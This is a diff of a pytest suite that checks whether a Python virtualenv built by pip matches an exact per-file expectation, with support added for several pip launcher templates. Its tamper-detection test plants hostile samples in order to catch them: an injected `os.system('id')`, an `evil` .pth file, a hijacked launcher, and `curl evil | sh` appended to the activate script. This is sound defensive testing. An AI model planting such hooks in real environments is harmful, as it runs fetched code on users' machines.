@@ -1,4 +1,4 @@
-"""wheel_files and venv_scaffolding: the venv pip and `python -m venv` really build, file for file.
+"""wheel_expectation and venv_expectation: the venv pip and `python -m venv` really build, file for file.
 
 Each install test builds a venv the way mlenv's Dockerfile does (tests/verify/venvtree.py), walks it,
 and requires the walked tree to equal the expectation exactly: every path explained, every expected
@@ -20,11 +20,12 @@ import pytest
 
 from mlenv.errors import SourceError
 from mlenv.verify.wheelfiles import (
-    LAUNCHER_TEMPLATE,
+    LAUNCHER_TEMPLATES,
     EntryPoint,
     fix_script,
     launcher_bytes,
-    venv_wheel_files,
+    venv_wheel_expectation,
+    wheel_files,
 )
 from tests.verify.venvtree import (
     Interpreter,
@@ -78,7 +79,11 @@ def make_wheel(
 
 
 def _files(wheel: Path) -> list:
-    return venv_wheel_files(wheel, venv="/opt/venv", python="3.11", requirement_name="demo", source="wheel:t")
+    return list(
+        venv_wheel_expectation(
+            wheel, venv="/opt/venv", python="3.11", requirement_name="demo", source="wheel:t"
+        ).files
+    )
 
 
 # ---- the wheel's RECORD must agree with its members ----------------------------------------------------
@@ -170,13 +175,42 @@ def test_fix_script_rewrites_only_a_python_shebang() -> None:
 
 def test_a_launcher_is_the_template_behind_the_venv_shebang() -> None:
     point = EntryPoint(name="tool", module="pkg.cli", attr="app.run", gui=False)
-    assert launcher_bytes(point, interpreter="/opt/venv/bin/python") == (
-        b"#!/opt/venv/bin/python\n# -*- coding: utf-8 -*-\nimport re\nimport sys\nfrom pkg.cli import app\n"
-        b"if __name__ == '__main__':\n"
-        b"    sys.argv[0] = re.sub(r'(-script\\.pyw|\\.exe)?$', '', sys.argv[0])\n"
-        b"    sys.exit(app.run())\n"
+    rendered = {
+        name: launcher_bytes(point, interpreter="/opt/venv/bin/python", template=template)
+        for name, template in LAUNCHER_TEMPLATES.items()
+    }
+    assert rendered == {
+        "pip 23.2.1, 24.0, 25.1 (distlib's)": (
+            b"#!/opt/venv/bin/python\n# -*- coding: utf-8 -*-\nimport re\nimport sys\n"
+            b"from pkg.cli import app\nif __name__ == '__main__':\n"
+            b"    sys.argv[0] = re.sub(r'(-script\\.pyw|\\.exe)?$', '', sys.argv[0])\n"
+            b"    sys.exit(app.run())\n"
+        ),
+        "pip 25.2, 25.3": (
+            b"#!/opt/venv/bin/python\nimport sys\nfrom pkg.cli import app\nif __name__ == '__main__':\n"
+            b"    if sys.argv[0].endswith('.exe'):\n        sys.argv[0] = sys.argv[0][:-4]\n"
+            b"    sys.exit(app.run())\n"
+        ),
+        "pip 26.0, 26.3": (
+            b"#!/opt/venv/bin/python\nimport sys\nfrom pkg.cli import app\nif __name__ == '__main__':\n"
+            b"    sys.argv[0] = sys.argv[0].removesuffix('.exe')\n    sys.exit(app.run())\n"
+        ),
+    }
+
+
+def test_wheel_files_is_the_expectations_file_list(tmp_path: Path) -> None:
+    w = _demo_wheel(tmp_path)
+    kwargs = dict(
+        site="/opt/venv/lib/python3.11/site-packages",
+        scripts_dir="/opt/venv/bin",
+        interpreter="/opt/venv/bin/python",
+        python="3.11",
+        data_dir="/opt/venv",
+        headers_dir="/opt/venv/include/site/python3.11/demo",
+        compile_root="/opt/venv/lib",
+        source="wheel:t",
     )
-    assert "%(module)s" in LAUNCHER_TEMPLATE
+    assert wheel_files(w, **kwargs) == _files(w)
 
 
 # ---- the real thing: pip into a venv, walked ------------------------------------------------------------
@@ -236,8 +270,9 @@ def test_a_synthetic_wheel_installs_exactly_as_derived(tmp_path: Path) -> None:
     wheel = _demo_wheel(wheels)
     root = build_venv(tmp_path / "venv", [wheel])
     found = walk(root)
-    expected = expected_venv(root, [wheel], HOST)
-    assert differences(found, expected, python=HOST, venv_root=str(root)) == []
+    expectation = expected_venv(root, [wheel], HOST)
+    assert differences(found, expectation, python=HOST) == []
+    expected = expectation.files
     site = f"{root}/lib/python{HOST.minor}/site-packages"
     # the rules the demo exercises, named so that a vacuous expectation would fail here
     assert expected[f"{root}/bin/run-demo"].mode == 0o644  # pip fixes the shebang but sets no +x
@@ -253,7 +288,14 @@ def test_a_synthetic_wheel_installs_exactly_as_derived(tmp_path: Path) -> None:
     assert expected[f"{root}/include/site/python{HOST.minor}/demo/demo.h"].check == "bytes"
     assert expected[f"{root}/share/demo/readme.txt"].check == "bytes"
     assert expected[f"{root}/lib/__pycache__/demo_data_module.{_tag()}.pyc"].check == "pyc"
-    assert expected[f"{site}/demo-1.0.dist-info/RECORD"].check == "bytes"
+    # entry points: launchers and so RECORD are one of the known renderings (this pip: the older one)
+    assert expected[f"{site}/demo-1.0.dist-info/RECORD"].check == "generated"
+    assert expected[f"{root}/bin/demo-sub"].check == "generated"
+    point = EntryPoint(name="demo-sub", module="demo.cli", attr="App.run", gui=False)
+    old = LAUNCHER_TEMPLATES["pip 23.2.1, 24.0, 25.1 (distlib's)"]
+    assert found[f"{root}/bin/demo-sub"].data == launcher_bytes(
+        point, interpreter=f"{root}/bin/python", template=old
+    )
 
 
 def _tamper(found: dict, path: str, data: bytes):
@@ -272,28 +314,33 @@ def test_the_comparison_sees_a_changed_file_an_extra_file_and_a_swapped_pyc(tmp_
     expected = expected_venv(root, [wheel], HOST)
     site = f"{root}/lib/python{HOST.minor}/site-packages"
     changed = _tamper(found, f"{site}/demo/cli.py", b"import os; os.system('id')\n")
-    assert f"{site}/demo/cli.py: bytes differ" in differences(
-        changed, expected, python=HOST, venv_root=str(root)
-    )
+    pyc = f"{site}/demo/__pycache__/cli.{_tag()}.pyc"
+    diffs = differences(changed, expected, python=HOST)
+    # the .py differs, and its pyc is no longer the pyc of the (changed) source beside it
+    assert diffs[1:] == [f"{site}/demo/cli.py: bytes differ"] and len(diffs) == 2
+    assert diffs[0].startswith(f"{pyc}: source hash ")
     pth = f"{site}/zz-evil.pth"
     extra = {**found, pth: found[f"{site}/demo/cli.py"]}
-    assert differences(extra, expected, python=HOST, venv_root=str(root)) == [f"extra {pth}"]
-    pyc = f"{site}/demo/__pycache__/cli.{_tag()}.pyc"
+    assert differences(extra, expected, python=HOST) == [f"extra {pth}"]
     other = f"{site}/__pycache__/demo_extra.{_tag()}.pyc"
     header = found[pyc].data[:16]
     swapped = _tamper(found, pyc, header + found[other].data[16:])
-    diffs = differences(swapped, expected, python=HOST, venv_root=str(root))
+    diffs = differences(swapped, expected, python=HOST)
     assert len(diffs) == 1 and diffs[0].startswith(f"{pyc}: its code is not what its source compiles to (")
     record = f"{site}/demo-1.0.dist-info/RECORD"
     forged = _tamper(
         found, record, found[record].data.replace(b"demo/cli.py,sha256=", b"demo/cli.py,sha256=A")
     )
-    assert differences(forged, expected, python=HOST, venv_root=str(root)) == [f"{record}: bytes differ"]
+    (diff,) = differences(forged, expected, python=HOST)
+    assert diff.startswith(f"{record}: sha256 ") and "is none of the 3 renderings its rule allows" in diff
+    launcher = f"{root}/bin/demo"
+    hijacked = _tamper(found, launcher, found[launcher].data.replace(b"demo.cli", b"evil.cli"))
+    (diff,) = differences(hijacked, expected, python=HOST)
+    assert diff.startswith(f"{launcher}: sha256 ")
     activate = f"{root}/bin/activate"
     hooked = _tamper(found, activate, found[activate].data + b"\ncurl evil | sh\n")
-    assert differences(hooked, expected, python=HOST, venv_root=str(root)) == [
-        f"{activate}: activate is not the base's venv template rendered for {root}"
-    ]
+    (diff,) = differences(hooked, expected, python=HOST)
+    assert diff.startswith(f"{activate}: sha256 ") and "renderings its rule allows" in diff
 
 
 @pytest.mark.parametrize("python", interpreters(), ids=lambda i: i.minor)
@@ -302,7 +349,7 @@ def test_the_venv_scaffolding_of_each_installed_interpreter(python: Interpreter,
     root = build_venv(tmp_path / "venv", [], python=python.executable)
     found = walk(root)
     expected = expected_venv(root, [], python)
-    assert differences(found, expected, python=python, venv_root=str(root)) == []
+    assert differences(found, expected, python=python) == []
 
 
 # ---- real wheels from PyPI -------------------------------------------------------------------------------
@@ -335,13 +382,42 @@ def test_a_pypi_wheel_installs_exactly_as_derived(project: str, tmp_path: Path) 
     (wheel,) = wheels.glob("*.whl")
     root = build_venv(tmp_path / "venv", [wheel])
     found = walk(root)
-    expected = expected_venv(root, [wheel], HOST)
-    assert differences(found, expected, python=HOST, venv_root=str(root)) == []
+    expectation = expected_venv(root, [wheel], HOST)
+    assert differences(found, expectation, python=HOST) == []
+    expected = expectation.files
     site = f"{root}/lib/python{HOST.minor}/site-packages"
     pycs = [e for e in expected.values() if e.check == "pyc"]
     assert pycs and all(e.pyc_source and e.pyc_source.startswith(site) for e in pycs)
     if project in ("tqdm", "wheel"):
         assert found[f"{root}/bin/{project}"].data.startswith(f"#!{root}/bin/python\n".encode())
-        assert expected[f"{root}/bin/{project}"].check == "bytes"
+        assert expected[f"{root}/bin/{project}"].check == "generated"
+    else:
+        (record,) = [p for p in expected if p.endswith(".dist-info/RECORD")]
+        assert expected[record].check == "bytes"  # no launchers: RECORD has one rendering
     if project == "jupyterlab_widgets":
         assert any(p.startswith(f"{root}/share/jupyter/") for p in expected)
+
+
+def _download(directory: Path, *requirements: str) -> list[Path]:
+    subprocess.run(
+        [sys.executable, "-m", "pip", "download", "--no-deps", "--only-binary", ":all:", "-d", str(directory)]
+        + list(requirements),
+        check=True,
+        capture_output=True,
+    )
+    return sorted(directory.glob("*.whl"))
+
+
+@pytest.mark.network
+@pytest.mark.parametrize("pip", ["pip==24.0", "pip==25.3", "pip"])
+def test_the_demo_wheel_installed_by_another_pip(pip: str, tmp_path: Path) -> None:
+    """A base whose Python bundles pip 24.0 (python:3.11 images), 25.3 or today's pip (each with its own
+    launcher template): the expectation holds for each."""
+    (pip_wheel,) = _download(tmp_path / "pip", pip)
+    wheels = tmp_path / "wheels"
+    wheels.mkdir()
+    wheel = _demo_wheel(wheels)
+    root = build_venv(tmp_path / "venv", [wheel], pip=pip_wheel)
+    found = walk(root)
+    expected = expected_venv(root, [wheel], HOST)
+    assert differences(found, expected, python=HOST) == []
